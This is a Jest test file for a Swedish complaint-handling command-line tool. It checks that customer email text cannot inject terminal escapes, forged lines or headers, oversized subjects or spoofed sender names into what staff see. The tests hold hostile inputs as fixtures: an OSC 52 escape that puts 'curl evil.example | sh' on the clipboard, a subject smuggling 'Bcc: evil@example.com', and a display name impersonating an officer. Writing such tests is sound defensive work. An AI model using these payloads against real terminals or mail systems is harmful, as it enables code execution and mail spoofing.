/**
 * Customer text shown to people, through the real binary: what a terminal would act on never
 * reaches it (an OSC 52 sequence in a subject writes the operator's clipboard), a subject or a
 * name is one bounded line in every mail and table (an encoded CR/LF used to add lines to the
 * manager's digest, a 100 KB subject made a 400 KB digest), a display name that is itself
 * another address never passes for that address, and a numeric option out of range is a usage
 * error, not a database error.
 */
import fs from 'node:fs';
import path from 'node:path';
import { simpleParser } from 'mailparser';
import { makeWorld, World, complaintMail } from '../support/world';

const OFFICERS = [
  { name: 'Maja Chef', address: 'maja@testfinans.se', role: 'manager' },
  { name: 'Olle Handläggare', address: 'olle@testfinans.se', role: 'officer' },
];

/** A header value as RFC 2047 encoded words (UTF-8, base64), folded: how clients send non-ASCII (and control) characters. */
function encoded(text: string): string {
  const bytes = Buffer.from(text, 'utf8');
  const words: string[] = [];
  // Cut between characters: 45 bytes of UTF-8 at most per word, never inside a character.
  let start = 0;
  while (start < bytes.length) {
    let end = Math.min(bytes.length, start + 45);
    while (end < bytes.length && (bytes[end] & 0xc0) === 0x80) end--;
    words.push(`=?utf-8?B?${bytes.subarray(start, end).toString('base64')}?=`);
    start = end;
  }
  return words.join('\r\n ');
}

/** File one mail through `klagomal ingest`, received at `receivedAt` (its file time); the ingest line. */
async function ingest(w: World, raw: string, receivedAt = new Date(), n = 1): Promise<{ caseId: string; kind: string }> {
  const file = path.join(w.dir, `mail-${n}.eml`);
  fs.writeFileSync(file, raw);
  fs.utimesSync(file, receivedAt, receivedAt);
  const r = await w.cli(['ingest', '--json', file]);
  expect(r.code).toBe(0);
  return JSON.parse(r.stdout.trim().split('\n')[0]) as { caseId: string; kind: string };
}

function outbox(w: World): Array<{ kind: string; to: string; subject: string; text: string; html: string }> {
  const { store, close } = w.store();
  try {
    return store.listOutbox().map((o) => ({ kind: o.kind, to: o.to_address, subject: o.subject, text: o.body_text, html: o.body_html ?? '' }));
  } finally {
    close();
  }
}

/** Characters a terminal acts on (CRLF line ends apart), or that reorder the text. */
// eslint-disable-next-line no-control-regex
const TERMINAL_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

describe('customer text shown to people', () => {
  let w: World;
  afterEach(() => w.cleanup());

  test('osc52InSubjectNeverReachesTheTerminal: nor any other escape, in any command a person reads', async () => {
    w = makeWorld();
    const osc52 = `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`;
    const subject = `Avgift ${osc52} \x1b]0;pwned\x07\x1b[2J\x1bc \u009b31m\u202Eevil\rForged: line`;
    const raw = [
      `From: ${encoded('Anna \x1b[8m dold')} <anna@example.com>`,
      'To: klagomal@testfinans.se',
      `Subject: ${encoded(subject)}`,
      'Date: Thu, 19 Nov 2026 09:14:02 +0100',
      'Message-ID: <osc52@example.com>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="b"',
      '',
      '--b',
      'Content-Type: text/plain; charset=utf-8',
      '',
      `Hej, jag vill klaga på en avgift på 60 kr. ${osc52} Tack.`,
      '--b',
      `Content-Type: application/pdf; name="${encoded('faktura\x1b]52;c;eA==\x07.pdf')}"`,
      'Content-Disposition: attachment',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from('%PDF-1.4\n').toString('base64'),
      '--b--',
      '',
    ].join('\r\n');
    const line = await ingest(w, raw);
    expect(line.kind).toBe('complaint');

    // The stored subject is the customer's, escape and all (the full text stays on the case).
    const json = await w.cli(['cases', '--json']);
    expect(JSON.parse(json.stdout)[0].subject).toContain('\x1b]52;c;');

    for (const args of [
      ['cases'],
      ['cases', '--json'],
      ['case', 'show', '1'],
      ['case', 'show', '1', '--json'],
      ['case', 'show', '1', '--audit'],
      ['case', 'show', '1', '--audit', '--json'],
      ['mail', 'list'],
      ['mail', 'list', '--json'],
      ['outbox'],
      ['outbox', '--json'],
      ['templates', 'preview', 'officer-new-case', '--case', '1'],
    ]) {
      const r = await w.cli(args);
      expect({ args, code: r.code }).toEqual({ args, code: 0 });
      expect({ args, control: TERMINAL_CONTROL.exec(r.stdout)?.[0] ?? null }).toEqual({ args, control: null });
      expect({ args, control: TERMINAL_CONTROL.exec(r.stderr)?.[0] ?? null }).toEqual({ args, control: null });
      // JSON stays the same JSON: the escape comes back as it was stored.
      if (args.includes('--json') && args[0] === 'cases') expect(JSON.parse(r.stdout)[0].subject).toBe(JSON.parse(json.stdout)[0].subject);
    }

    // In the text view the subject is one line, and shows where the escape was.
    const shown = (await w.cli(['case', 'show', '1'])).stdout.split('\n');
    const subjectLines = shown.filter((l) => l.startsWith('Subject:'));
    expect(subjectLines).toHaveLength(1);
    expect(subjectLines[0]).toContain('\\u001b]52;c;');
    expect(shown.some((l) => l.startsWith('Forged:'))).toBe(false);
  });

  test('encodedNewlineInSubjectStaysOneLineInDigest: and in the notification; a 100 KB subject stays short in both', async () => {
    w = makeWorld({ officers: OFFICERS, deadlines: { escalation: { enabled: true } } });
    const forged = 'Avgift\r\n  - KLG-2026-999999  slutligt svar senast igår  Förfalskad rad\r\nBcc: evil@example.com';
    const huge = `Jättelångt ämne ${'å'.repeat(100_000)}`;
    const received = new Date('2026-01-12T10:00:00+01:00');
    const a = await ingest(w, complaintMail(1, { subject: encoded(forged) }), received, 1);
    const b = await ingest(w, complaintMail(2, { subject: encoded(huge) }), received, 2);
    expect([a.kind, b.kind]).toEqual(['complaint', 'complaint']);

    const r = await w.cli(['escalate', '--now', '2026-01-13T08:00:00+01:00', '--json']);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ digest: true });
    const digest = outbox(w).find((o) => o.kind === 'manager-digest')!;
    expect(digest).toBeDefined();
    const lines = digest.text.split(/\r\n|\r|\n/);
    // No line of the customer's: each case is on its own lines, whose text starts as ours does.
    expect(lines.filter((l) => /^\s*Bcc:/i.test(l))).toEqual([]);
    expect(lines.filter((l) => l.includes('KLG-2026-999999') && !l.includes(a.caseId))).toEqual([]);
    for (const l of lines.filter((x) => x.includes(a.caseId))) expect(l).toContain('Avgift - KLG-2026-999999');
    // Bounded: each subject at most 200 characters, whatever the customer sent.
    for (const l of lines.filter((x) => x.includes(b.caseId))) expect(Array.from(l).length).toBeLessThan(400);
    expect(digest.text.length).toBeLessThan(10_000);
    expect(digest.html.length).toBeLessThan(20_000);

    // The contact person's notification: the subject line of the case one line too.
    for (const note of outbox(w).filter((o) => o.kind === 'officer-new-case')) {
      const subjectLines = note.text.split(/\r\n|\r|\n/).filter((l) => /^(Ämne|Subject):/.test(l));
      expect(subjectLines).toHaveLength(1);
      expect(Array.from(subjectLines[0]).length).toBeLessThan(260);
      expect(note.text.split(/\r\n|\r|\n/).filter((l) => /^\s*Bcc:/i.test(l))).toEqual([]);
      expect(note.text.length).toBeLessThan(10_000);
    }

    // The full text stays on the case.
    const shown = JSON.parse((await w.cli(['case', 'show', b.caseId, '--json'])).stdout) as { subject: string };
    expect(shown.subject).toBe(huge);
  });

  test('displayNameAddressIsNotShownAsTheOfficer: the real address first, the name flagged', async () => {
    w = makeWorld({ officers: OFFICERS });
    const raw = complaintMail(1, { from: '"olle@testfinans.se <olle@testfinans.se>" <evil@example.net>' });
    const line = await ingest(w, raw);
    expect(line.kind).toBe('complaint');
    expect((await w.cli(['run', '--once'])).code).toBe(0);

    const notes = [];
    for (const name of fs.readdirSync(w.pickup)) {
      const m = await simpleParser(fs.readFileSync(path.join(w.pickup, name)));
      if (m.subject?.includes('Nytt klagomål')) notes.push(m);
    }
    expect(notes).toHaveLength(1);
    const text = notes[0].text ?? '';
    const customer = text.split('\n').find((l) => l.startsWith('Kund:'))!;
    expect(customer).toMatch(
      /^Kund:\s+<evil@example\.net> "olle@testfinans\.se <olle@testfinans\.se>" \(OBS: namnet innehåller en annan adress än avsändarens\)$/,
    );
    const html = typeof notes[0].html === 'string' ? notes[0].html : '';
    expect(html).toContain('&lt;evil@example.net&gt; &quot;olle@testfinans.se &lt;olle@testfinans.se&gt;&quot; <strong>(OBS');

    // The operator's view says the same, and the mail carries the problem.
    const shown = (await w.cli(['case', 'show', '1'])).stdout.split('\n');
    expect(shown.find((l) => l.startsWith('Customer:'))).toBe(
      'Customer:  <evil@example.net> "olle@testfinans.se <olle@testfinans.se>" (the display name holds another address: olle@testfinans.se)',
    );
    const detail = JSON.parse((await w.cli(['case', 'show', '1', '--json'])).stdout) as { messages: Array<{ problems?: string[] }> };
    expect(detail.messages[0].problems).toContain("the From display name holds another address (olle@testfinans.se) than the sender's");
  });
});

describe('numeric options', () => {
  let w: World;
  beforeAll(() => {
    w = makeWorld();
  });
  afterAll(() => w.cleanup());

  test.each(['99999999999999999999', '9007199254740993', '0', '1e3', '0x10', '1.5', ' 5', '', '-1', '1000001'])(
    'hugeLimitIsAUsageError: mail list --limit %j',
    async (value) => {
      const r = await w.cli(['mail', 'list', `--limit=${value}`]);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('klagomal mail: --limit: a whole number from 1 to 1000000');
      expect(r.stderr).not.toMatch(/SQLITE|mismatch/i);
    },
  );

  test.each([
    [['outbox', 'retry', '99999999999999999999']],
    [['quarantine', 'retry', '99999999999999999999']],
    [['case', 'show', '99999999999999999999']],
    [['case', 'met', '99999999999999999999', 'finalAnswer']],
    [['templates', 'preview', 'acknowledgement', '--case', '99999999999999999999']],
  ])('an ID past what a number holds is a usage error: %j', async (args) => {
    const r = await w.cli(args);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('ID: a whole number from');
  });

  test('numbers in range still work', async () => {
    expect((await w.cli(['mail', 'list', '--limit', '1'])).code).toBe(0);
    expect((await w.cli(['mail', 'list', '--limit', '1000000', '--json'])).stdout.trim()).toBe('[]');
    const missing = await w.cli(['case', 'show', '42']);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain("no case '42'");
  });
});
